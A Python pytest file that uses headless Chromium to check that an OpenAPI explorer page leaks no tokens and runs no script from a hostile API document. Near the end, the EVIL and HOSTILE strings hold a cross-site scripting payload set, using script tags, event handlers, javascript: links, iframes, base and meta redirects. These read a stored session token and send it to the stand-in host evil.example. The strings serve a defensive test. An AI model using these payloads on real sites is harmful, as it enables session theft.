"""The page as a person has it, in Chromium: it loads, a call is clicked through, and what a document says runs no script."""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import httpx
import pytest

from aerostack_dynamic import AsyncClient, Spec
from aerostack_dynamic.explore import Explorer
from aerostack_dynamic.testing import MockTransport

from .chromium import Chromium, Page, needs_chromium
from .conftest import SECRET, server

if TYPE_CHECKING:
    from pathlib import Path

    from aerostack_dynamic.sandbox import Sandbox

pytestmark = needs_chromium


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chromium]:
    browser = Chromium(tmp_path_factory.mktemp("chromium"))
    yield browser
    browser.close()


class Shown:
    """A document on its page."""

    def __init__(self, page: Page) -> None:
        self.page = page

    def find(self, operation: str, selector: str) -> str:
        return f"document.querySelector('.opblock[id$=\"-{operation}\"] {selector}')"

    def open(self, operation: str) -> None:
        """Show an operation."""
        self.click(operation, ".opblock-summary-control")
        self.page.until(self.find(operation, ".opblock-body"))

    def click(self, operation: str, selector: str) -> None:
        self.page.until(self.find(operation, selector))
        self.page.run(f"{self.find(operation, selector)}.click()")

    def write(self, operation: str, selector: str, text: str) -> None:
        """Type into a field; React hears of it by the events that a person's typing makes."""
        field = self.find(operation, selector)
        self.page.until(field)
        self.page.run(f"{field}.focus(); {field}.select()")
        self.page.ask("Input.insertText", text=text)
        # The viewer takes what was typed after a pause, or at once when the field is left.
        self.page.run(f"{field}.blur()")

    def execute(self, operation: str) -> str:
        """The table of the answer."""
        self.click(operation, ".execute")
        self.page.until(self.find(operation, ".live-responses-table .response-col_status"))
        return self.page.run(f"{self.find(operation, '.live-responses-table')}.innerText")


def show(chromium: Chromium, explorer: Explorer) -> Shown:
    page = chromium.open(explorer.url)
    page.until("document.querySelector('.opblock')")
    return Shown(page)


def test_a_call_is_clicked_through(chromium: Chromium, box: Sandbox) -> None:
    """On the sandbox: the page asks nobody but this process, shows no token, and has no key."""
    with Explorer(AsyncClient(box.api_key, server=box.url)) as explorer:
        shown = show(chromium, explorer)
        page, token = shown.page, explorer.url.partition("#")[2]
        assert page.run("document.title") == "Aerostack API 1.0.0"
        assert page.run("document.querySelectorAll('.opblock').length") == 9
        assert page.run("location.href") == f"{explorer.url.partition('#')[0]}", "out of sight, and of the history"
        shown.open("aiChat")
        shown.click("aiChat", ".try-out__btn")
        told = shown.execute("aiChat")
        assert "200" in told
        assert "You said: " in told
        assert "x-request-id" in told
        assert "Undocumented" not in told
        whole = page.run("document.documentElement.outerHTML")
        assert box.api_key not in whole
        assert token not in whole
        assert page.run("document.cookie") == ""
        assert {urlsplit(one).netloc for one in page.requested() if not one.startswith("data:")} == {urlsplit(explorer.url).netloc}
        page.ask("Page.reload")
        page.until("document.querySelectorAll('.opblock').length === 9")
        assert page.faults() == []
        page.close()


def test_arguments_and_what_is_wrong_with_them(chromium: Chromium, things: Spec) -> None:
    """On a server of the tests: parameters by hand, a body that does not fit, an answer that breaks the document."""
    client = AsyncClient(spec=things, transport=httpx.MockTransport(server), credentials={"Key": SECRET}, retry=1)
    with Explorer(client) as explorer:
        shown = show(chromium, explorer)
        page = shown.page
        shown.open("odd")
        shown.click("odd", ".try-out__btn")
        shown.write("odd", "input", "drift")
        assert '"mood": "bad"' in shown.execute("odd")
        page.until("document.querySelector('#notes').innerText.includes('mood')")
        page.run("document.querySelector('#notes button').click()")
        assert page.run("document.querySelector('#notes').innerText") == ""
        shown.open("sendBody")
        shown.click("sendBody", ".try-out__btn")
        shown.write("sendBody", "textarea", '{"n": "x"}')
        told = shown.execute("sendBody")
        assert "2 problems: body/body: required, missing; body/n: expected integer, got string" in told
        assert "nothing was sent" in told
        assert page.faults() == []
        page.close()


def test_a_mock_and_a_document_in_several_files(chromium: Chromium, folder: Path) -> None:
    spec = Spec.load(folder / "openapi.yaml")
    with Explorer(AsyncClient(spec=spec, transport=MockTransport(spec))) as explorer:
        shown = show(chromium, explorer)
        assert "by way of MockTransport" in shown.page.run("document.querySelector('#where').innerText")
        shown.open("getPet")
        shown.page.until("document.body?.innerText.includes('\"species\"')")
        shown.click("getPet", ".try-out__btn")
        assert '"species": ' in shown.execute("getPet")
        assert shown.page.faults() == []
        shown.page.close()


EVIL = "window.ran = true; fetch('https://evil.example/' + sessionStorage.getItem('aerostack-explore'))"
HOSTILE = "\n\n".join(
    (
        f"<script>{EVIL}</script>",
        f'<img src="x" onerror="{EVIL}">',
        f'<a class="bait" href="javascript:{EVIL}">bait</a> [bait](javascript:{EVIL.replace(" ", "%20")})',
        f'<svg onload="{EVIL}"><script>{EVIL}</script></svg><details open ontoggle="{EVIL}">d</details>',
        f'<iframe srcdoc="<script>parent.{EVIL}</script>"></iframe><iframe src="javascript:{EVIL}"></iframe>',
        '<form action="https://evil.example/"><button class="bait">bait</button></form><base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">',
        '<img src="https://evil.example/pixel"><style>body{background:url(https://evil.example/b)}</style>',
    )
)


def hostile() -> dict[str, Any]:
    """A document that says it wherever there are words for a person, and leads elsewhere wherever there are addresses."""
    bad = {"url": "javascript:window.ran=true", "description": HOSTILE}
    return {
        "openapi": "3.1.0",
        "info": {
            "title": HOSTILE,
            "version": HOSTILE,
            "description": HOSTILE,
            "termsOfService": bad["url"],
            "contact": {"url": bad["url"]},
        },
        "externalDocs": bad,
        "tags": [{"name": "Things", "description": HOSTILE, "externalDocs": bad}],
        "servers": [{"url": "https://things.example/v1", "description": HOSTILE}],
        "components": {"schemas": {"A": {"$ref": "https://evil.example/schema.json"}}},
        "paths": {
            "/odd": {
                "get": {
                    "operationId": "odd",
                    "tags": ["Things"],
                    "summary": HOSTILE,
                    "description": HOSTILE,
                    "externalDocs": bad,
                    "parameters": [
                        {"name": "p", "in": "query", "description": HOSTILE, "schema": {"type": "string", "default": HOSTILE}}
                    ],
                    "responses": {
                        "200": {"description": HOSTILE, "content": {"text/html": {"schema": {"$ref": "#/components/schemas/A"}}}},
                        "201": {
                            "description": "ok",
                            "content": {"text/html": {"schema": {"$ref": "https://things.example/v1/odd"}}},
                        },
                        "202": {"description": "ok", "content": {"text/html": {"example": HOSTILE}}},
                    },
                }
            }
        },
    }


def test_what_a_document_says_runs_no_script(chromium: Chromium) -> None:
    """Nor does the answer of a server: no script, no address elsewhere, not by a click on what looks like a link."""

    called: list[str] = []

    async def evil(request: httpx.Request) -> httpx.Response:
        called.append(request.url.path)
        return httpx.Response(200, headers={"Content-Type": "text/html", "X-Html": "<script>window.ran=1</script>"}, text=HOSTILE)

    client = AsyncClient(spec=hostile(), transport=httpx.MockTransport(evil))
    with Explorer(client) as explorer:
        shown = show(chromium, explorer)
        page = shown.page
        shown.open("odd")
        page.until("document.body.innerText.includes('window.ran')")
        shown.click("odd", ".try-out__btn")
        assert called == [], "no call by a reference"
        assert "evil.example" in shown.execute("odd")
        page.run("document.querySelectorAll('.bait, a[href^=javascript]').forEach((one) => one.click())")
        page.run("new Promise((done) => setTimeout(done, 100))")
        assert page.run("window.ran") is None
        assert called == ["/v1/odd"]
        assert page.run("location.origin") == explorer.url.partition("/#")[0]
        # Those that were tried are in the console's list of what the page's policy has refused, and none has left.
        reached = [one for one in page.reached() if "evil.example" in one]
        assert reached == []
        page.close()


def test_without_the_token_nothing_is_shown(chromium: Chromium, things: Spec) -> None:
    with Explorer(AsyncClient(spec=things)) as explorer:
        page = chromium.open(explorer.url.partition("#")[0] + "#" + "x" * 43)
        page.until("document.body?.innerText.includes('open the address that the terminal shows')")
        assert "Things" not in page.run("document.documentElement.outerHTML")
        page.close()
